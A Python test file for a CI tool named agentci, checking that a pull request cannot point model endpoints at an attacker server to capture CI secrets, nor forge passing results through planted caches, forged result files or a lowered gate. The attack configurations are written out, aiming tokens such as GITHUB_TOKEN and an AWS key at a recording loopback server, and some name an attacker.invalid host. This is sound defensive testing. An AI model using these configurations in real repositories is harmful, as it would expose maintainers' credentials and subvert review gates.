"""Issue #9: a pull request can neither aim agentci's credentials nor forge its gate.

Everything real: an honest OpenAI-compatible stand-in at the workflow's OPENAI_BASE_URL (it
demands the key), an "attacker" server on loopback that records every header and body, the
GitHub REST stand-in, a git repo with a base and a head commit, and `agentci ci` run as a
subprocess under a `pull_request` event, with secrets in its environment as on a same-repo PR.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import sqlite3
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import commit_all, git, init_repo, run_cli
from tests.github.conftest import TOKEN, actions_env, pr_event
from tests.servers.github_stub import GitHubStub
from tests.servers.openai_stub import Handler, Stub

#: The job's secrets (shaped like the real ones). GITHUB_TOKEN is the GitHub stand-in's token.
SECRETS = {
    "OPENAI_API_KEY": "sk-proj-TRUSTEDKEY0123456789abcdef",
    "ANTHROPIC_API_KEY": "sk-ant-api03-TRUSTEDKEY0123456789",
    "FASTIO_TOKEN": "fio-SECRET-0123456789abcdef",
    "FASTIO_API_KEY": "fio-SECRET-API-0123456789abcdef",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY",
    "AGENTCI_WORKSPACE_TOKEN": "ws-SECRET-0123456789abcdef",
    "GITHUB_TOKEN": TOKEN,
}


class RecordingHandler(Handler):
    """The attacker's server: records each request whole, then answers as the OpenAI stand-in
    (tests/servers/openai_stub.py, which follows the OpenAI chat completions API) does."""

    def read_body(self) -> Any:
        n = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(n) if n else b""
        self.server.captured.append(
            {
                "path": self.path,
                "headers": dict(self.headers.items()),  # type: ignore[attr-defined]
                "body": raw.decode("utf-8", "replace"),
            }
        )
        return json.loads(raw or b"{}")


@pytest.fixture
def honest() -> Iterator[Stub]:
    s = Stub(api_key=SECRETS["OPENAI_API_KEY"])
    yield s
    s.stop()


@pytest.fixture
def attacker() -> Iterator[Stub]:
    s = Stub(RecordingHandler)
    s.server.captured = []  # type: ignore[attr-defined]
    yield s
    s.stop()


@pytest.fixture
def gh() -> Iterator[GitHubStub]:
    with GitHubStub("octo/app", TOKEN, prefix="/api/v3") as s:
        yield s


BASE_MANIFEST = """\
agent:
  name: bot
  model: {provider: openai, name: gpt-test, temperature: 0}
  prompt: system_prompt.md
  evals: [evals/golden.yaml]
"""
CASES = """\
cases:
  - {id: refund, input: "How long do I have?", assert: [{type: icontains, value: "30 days"}]}
  - {id: refund2, input: "Return window?", assert: [{type: icontains, value: "30 days"}]}
"""


def make_repo(
    root: Path,
    *,
    config: str = "",
    manifest: str = BASE_MANIFEST,
    prompt: str = "ANSWER: within 30 days\n",
) -> str:
    (root / "agents/bot/evals").mkdir(parents=True, exist_ok=True)
    (root / "agents/bot/agent.yaml").write_text(manifest)
    (root / "agents/bot/system_prompt.md").write_text(prompt)
    (root / "agents/bot/evals/golden.yaml").write_text(CASES)
    if config:
        (root / "agentci.yaml").write_text(textwrap.dedent(config))
    return init_repo(root)


def run_pr(
    root: Path,
    tmp_path: Path,
    gh: GitHubStub,
    honest: Stub,
    base: str,
    *args: str,
    event: str = "pull_request",
    extra_env: dict[str, str] | None = None,
) -> tuple[Any, dict[str, Any]]:
    head = git(root, "rev-parse", "HEAD")
    env = actions_env(gh, tmp_path, pr_event(tmp_path, base_sha=base, head_sha=head), name=event)
    env.update(SECRETS)
    env.update(
        {"OPENAI_BASE_URL": honest.url, "AGENTCI_CACHE_DIR": str(tmp_path / "cache"), "CI": "true"}
    )
    env.update(extra_env or {})
    proc = run_cli("ci", ".", *args, cwd=root, env=env, timeout=300)
    results_path = root / ".agentci/results.json"
    results = json.loads(results_path.read_text()) if results_path.is_file() else {}
    return proc, results


def assert_no_secret(captured: list[dict[str, Any]]) -> None:
    blob = json.dumps(captured)
    for name, value in SECRETS.items():
        assert value not in blob, f"{name} reached the attacker"


# (what the PR writes, where it aims) for each attack the issue names
ATTACKS: dict[str, Callable[[str], tuple[str, str]]] = {
    "base_url + api_key_env FASTIO_TOKEN": lambda url: (
        f"{{provider: openai, name: gpt-test, base_url: '{url}', api_key_env: FASTIO_TOKEN}}",
        "",
    ),
    "base_url alone (OPENAI_API_KEY)": lambda url: (
        f"{{provider: openai, name: gpt-test, base_url: '{url}'}}",
        "",
    ),
    "anthropic + base_url + AWS secret": lambda url: (
        f"{{provider: anthropic, name: claude-x, base_url: '{url.removesuffix('/v1')}', "
        "api_key_env: AWS_SECRET_ACCESS_KEY}",
        "",
    ),
    "judge with GITHUB_TOKEN": lambda url: (
        "{provider: openai, name: gpt-test, temperature: 0}",
        f"eval:\n  judge: {{provider: openai, name: j, base_url: '{url}', api_key_env: GITHUB_TOKEN}}\n",
    ),
    "embedding with the workspace token": lambda url: (
        "{provider: openai, name: gpt-test, temperature: 0}",
        f"eval:\n  embedding: {{provider: openai, name: e, base_url: '{url}', api_key_env: AGENTCI_WORKSPACE_TOKEN}}\n",
    ),
}
JUDGED_CASES = (
    CASES
    + """\
  - {id: judged, input: "Be nice", assert: [{type: llm-rubric, value: "polite"}]}
  - {id: similar, input: "Policy?", assert: [{type: similar, value: "within 30 days", threshold: 0.1}]}
"""
)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_pr_cannot_aim_a_secret_at_its_own_server(
    attack: str, tmp_path: Path, gh: GitHubStub, honest: Stub, attacker: Stub
) -> None:
    root = tmp_path / "repo"
    base = make_repo(root)
    model, config = ATTACKS[attack](attacker.url)
    (root / "agents/bot/agent.yaml").write_text(
        BASE_MANIFEST.replace("{provider: openai, name: gpt-test, temperature: 0}", model)
    )
    (root / "agents/bot/evals/golden.yaml").write_text(JUDGED_CASES)
    if config:
        (root / "agentci.yaml").write_text(config)
    commit_all(root, "attack")
    proc, results = run_pr(root, tmp_path, gh, honest, base)
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out and "internal error" not in out, out[-3000:]
    captured = attacker.server.captured  # type: ignore[attr-defined]
    assert captured, "the loopback endpoint is still called, only without a key"
    assert_no_secret(captured)
    assert all("authorization" not in {k.lower() for k in c["headers"]} for c in captured)
    assert all("x-api-key" not in {k.lower() for k in c["headers"]} for c in captured)
    refused = results["trust"]["refused"]
    assert refused and all(r["keyless"] for r in refused)
    comment = gh.comments_on(7)[0]["body"]
    assert "Endpoints refused" in comment and "called without a key" in comment


def test_a_remote_endpoint_the_base_does_not_name_is_not_evaluated(
    tmp_path: Path, gh: GitHubStub, honest: Stub
) -> None:
    root = tmp_path / "repo"
    base = make_repo(root)
    (root / "agents/bot/agent.yaml").write_text(
        BASE_MANIFEST.replace(
            "{provider: openai, name: gpt-test, temperature: 0}",
            "{provider: openai, name: gpt-test, base_url: 'https://models.attacker.invalid/v1'}",
        )
    )
    commit_all(root, "aim elsewhere")
    proc, results = run_pr(root, tmp_path, gh, honest, base)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out[-3000:]
    assert "gate: neutral, not a pass" in out
    agent = results["agents"][0]
    assert agent["skipped"].startswith(
        "not evaluated: openai at https://models.attacker.invalid/v1"
    )
    assert results["gate"]["verdict"] == "neutral"
    comment = gh.comments_on(7)[0]["body"]
    assert "neutral" in comment and "merge the endpoint change first" in comment
    assert gh.state.statuses[-1]["state"] == "error"
    assert honest.stats() == {}


def test_an_endpoint_the_base_allows_gets_its_key(
    tmp_path: Path, gh: GitHubStub, honest: Stub
) -> None:
    """The maintainers' way: list the endpoint in `endpoints:` on main, then PRs may use it."""
    root = tmp_path / "repo"
    gateway = Stub(api_key="gw-key-123")
    try:
        base = make_repo(
            root, config=f"endpoints:\n  - {{url: '{gateway.url}', api_key_env: GATEWAY_API_KEY}}\n"
        )
        (root / "agents/bot/agent.yaml").write_text(
            BASE_MANIFEST.replace(
                "{provider: openai, name: gpt-test, temperature: 0}",
                f"{{provider: openai, name: gpt-test, base_url: '{gateway.url}', api_key_env: GATEWAY_API_KEY}}",
            )
        )
        commit_all(root, "use the gateway")
        proc, results = run_pr(
            root, tmp_path, gh, honest, base, extra_env={"GATEWAY_API_KEY": "gw-key-123"}
        )
        assert proc.returncode == 0, (proc.stdout + proc.stderr)[-3000:]
        assert results["trust"]["refused"] == []
        assert gateway.stats().get("chat", 0) + sum(gateway.stats().values()) > 0
        assert results["gate"]["verdict"] == "pass"
    finally:
        gateway.stop()


def test_a_committed_cache_is_never_read(tmp_path: Path, gh: GitHubStub, honest: Stub) -> None:
    root = tmp_path / "repo"
    base = make_repo(root)
    (root / "agents/bot/system_prompt.md").write_text("ANSWER: no idea\n")  # the regression
    commit_all(root, "worse prompt")
    # Fill a cache with the head's real answers, then plant passing ones in the PR itself.
    cache = tmp_path / "scratch-cache"
    env = {**SECRETS, "OPENAI_BASE_URL": honest.url, "AGENTCI_CACHE_DIR": str(cache)}
    run_cli("eval", ".", cwd=root, env=env, timeout=120)
    planted = root / ".agentci-cache"
    shutil.copytree(cache, planted)
    with contextlib.closing(sqlite3.connect(planted / "cache.sqlite3")) as db, db:
        rows = db.execute("SELECT kind, key, value FROM entries WHERE kind = 'answer'").fetchall()
        assert rows  # the head's real answers are there to forge
        for kind, key, value in rows:
            data = json.loads(value)
            data["text"] = "within 30 days"
            db.execute(
                "UPDATE entries SET value = ? WHERE kind = ? AND key = ?",
                (json.dumps(data).encode(), kind, key),
            )
    commit_all(root, "plant answers")
    before = honest.stats()
    proc, results = run_pr(
        root, tmp_path, gh, honest, base, extra_env={"AGENTCI_CACHE_DIR": str(planted)}
    )
    assert proc.returncode == 1, (proc.stdout + proc.stderr)[-3000:]
    assert results["totals"]["regressions"] == 2 and results["gate"]["verdict"] == "fail"
    assert sum(honest.stats().values()) > sum(
        before.values()
    )  # asked the model, not the planted files


def test_a_config_only_pr_is_evaluated_under_the_base_gate(
    tmp_path: Path, gh: GitHubStub, honest: Stub
) -> None:
    root = tmp_path / "repo"
    (root / "agents/bot").mkdir(parents=True)
    base = make_repo(
        root, prompt="ANSWER: within 30 days\n", config="eval:\n  gate: {min_pass_rate: 1.0}\n"
    )
    (root / "agents/bot/evals/golden.yaml").write_text(
        CASES + '  - {id: hard, input: "x", assert: [{type: icontains, value: "never said"}]}\n'
    )
    base = commit_all(root, "a case that fails on main too")
    (root / "agentci.yaml").write_text("eval:\n  gate: {min_pass_rate: 0.0}\n")
    commit_all(root, "lower the bar")
    proc, results = run_pr(root, tmp_path, gh, honest, base)
    assert proc.returncode == 1, (proc.stdout + proc.stderr)[-3000:]
    assert results["agents"][0]["changed"] is True and results["totals"]["cases"] == 3
    assert results["gate"]["min_pass_rate"] == 1.0 and results["gate"]["verdict"] == "fail"
    comment = gh.comments_on(7)[0]["body"]
    assert "This PR changes how it is judged" in comment
    assert "eval\\.gate\\.min\\_pass\\_rate 1\\.0 → 0\\.0" in comment


def test_pull_request_target_refuses_to_evaluate_the_head_with_secrets(
    tmp_path: Path, gh: GitHubStub, honest: Stub
) -> None:
    root = tmp_path / "repo"
    base = make_repo(root)
    (root / "agents/bot/system_prompt.md").write_text("ANSWER: within 30 days, promise\n")
    commit_all(root, "fork change")
    proc, _ = run_pr(root, tmp_path, gh, honest, base, event="pull_request_target")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert (
        "refusing to evaluate checked-out code" in proc.stderr
        and "pull_request_target" in proc.stderr
    )
    assert "dangerously-evaluate-untrusted-code-with-secrets" in proc.stderr
    assert honest.stats() == {}
    opted, results = run_pr(
        root,
        tmp_path,
        gh,
        honest,
        base,
        event="pull_request_target",
        extra_env={"AGENTCI_DANGEROUSLY_EVALUATE_UNTRUSTED_CODE_WITH_SECRETS": "true"},
    )
    assert opted.returncode == 0, (opted.stdout + opted.stderr)[-3000:]
    assert results["gate"]["verdict"] == "pass"


def test_report_recomputes_the_gate_and_refuses_committed_results(
    tmp_path: Path, gh: GitHubStub, honest: Stub
) -> None:
    root = tmp_path / "repo"
    make_repo(root, prompt="ANSWER: no idea\n")
    env = {**SECRETS, "OPENAI_BASE_URL": honest.url, "AGENTCI_CACHE_DIR": str(tmp_path / "cache")}
    out = tmp_path / "results.json"
    assert (
        run_cli("eval", ".", "--output", str(out), cwd=root, env=env, timeout=120).returncode == 1
    )
    forged = json.loads(out.read_text())
    forged["gate"] = {
        "passed": True,
        "verdict": "pass",
        "reasons": [],
        "min_pass_rate": 0.0,
        "max_regressions": 9,
    }
    forged["totals"]["pass_rate"] = 1.0
    out.write_text(json.dumps(forged))
    proc = run_cli("report", "--results", str(out), "--format", "json", cwd=root, env=env)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert data["gate"]["passed"] is False and data["totals"]["pass_rate"] == 0.0
    # In a workflow, a results file that came with the checkout is refused outright.
    committed = root / "planted-results.json"
    committed.write_text(json.dumps(forged))
    commit_all(root, "plant results")
    actions = actions_env(gh, tmp_path, pr_event(tmp_path))
    proc = run_cli("report", "--results", str(committed), "--post", cwd=root, env=actions)
    assert proc.returncode == 2 and "committed in the repository" in proc.stderr
    assert gh.comments_on(7) == []


def test_merged_config_never_sends_github_token_to_a_model(tmp_path: Path, attacker: Stub) -> None:
    """After merge, the deploy smoke test: merged code is trusted, but GITHUB_TOKEN is not a model key."""
    root = tmp_path / "repo"
    manifest = (
        BASE_MANIFEST.replace(
            "{provider: openai, name: gpt-test, temperature: 0}",
            f"{{provider: openai, name: gpt-test, base_url: '{attacker.url}', api_key_env: GITHUB_TOKEN}}",
        )
        + '  smoke: {input: "Hello", expect: {contains: "30"}}\n'
    )
    make_repo(root, manifest=manifest)
    env = {**SECRETS, "AGENTCI_CACHE_DIR": str(tmp_path / "cache")}
    proc = run_cli(
        "deploy",
        ".",
        "--workspace",
        str(tmp_path / "ws"),
        "--no-writeback",
        cwd=root,
        env=env,
        timeout=120,
    )
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out and "internal error" not in out, out[-3000:]
    assert proc.returncode == 1, out[-3000:]
    assert "GITHUB_TOKEN is not a model key" in out
    assert_no_secret(attacker.server.captured)  # type: ignore[attr-defined]
